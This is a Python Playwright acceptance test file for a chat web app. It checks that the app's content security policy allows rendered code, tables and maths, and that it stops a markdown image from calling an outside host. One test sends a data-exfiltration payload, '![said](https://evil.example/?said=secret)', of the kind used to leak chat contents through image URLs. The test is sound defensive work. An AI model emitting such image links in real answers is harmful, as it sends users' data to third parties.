"""The page under the content security policy that `template.yaml` gives it on AWS."""

import re
from pathlib import Path

import pytest
from playwright.async_api import Page, Route, expect

from tests.acceptance.browser.chat_page import ChatPage

_TEMPLATE = (Path(__file__).parents[3] / "template.yaml").read_text()

_EVERYTHING = """# A title

```python
print("code")
```

$$e = mc^2$$

| a | b |
| - | - |
| 1 | 2 |
"""


@pytest.fixture
async def page(page: Page) -> Page:
    """The page, with the header on its document."""
    found = re.search(r"default-src 'self'.*?frame-ancestors 'none'", _TEMPLATE, re.DOTALL)
    assert found is not None
    policy = " ".join(found[0].split()).replace("${Files}", "https://files.example.org")

    async def serve(route: Route) -> None:
        if not route.request.is_navigation_request():
            return await route.continue_()
        answer = await route.fetch()
        headers = {**answer.headers, "content-security-policy": policy}
        await route.fulfill(response=answer, headers=headers)

    await page.route("**/*", serve)
    return page


async def test_whatever_an_answer_shows_is_allowed(page: Page) -> None:
    chat = ChatPage(page)
    await chat.open()
    await chat.send(_EVERYTHING)
    answer = await chat.ends("complete")
    # Coloured code, of which the page says so in its styles.
    await expect(answer.locator("pre span[style]").first).to_be_visible()
    await expect(answer.get_by_role("table")).to_be_visible()
    await page.goto("/numbers")
    await expect(page.get_by_role("heading", name="Numbers")).to_be_visible()


async def test_a_picture_from_elsewhere_tells_nobody(page: Page, console_errors: list[str]) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    chat = ChatPage(page)
    await chat.open()
    await chat.send("![said](https://evil.example/?said=secret)")
    # A link stands in its place.
    answer = await chat.ends("complete")
    await expect(answer.get_by_role("link", name="said", exact=True)).to_be_visible()
    assert not [url for url in asked if "evil.example" in url]
    assert all("evil.example" in line or "Content Security" in line for line in console_errors)
    console_errors.clear()
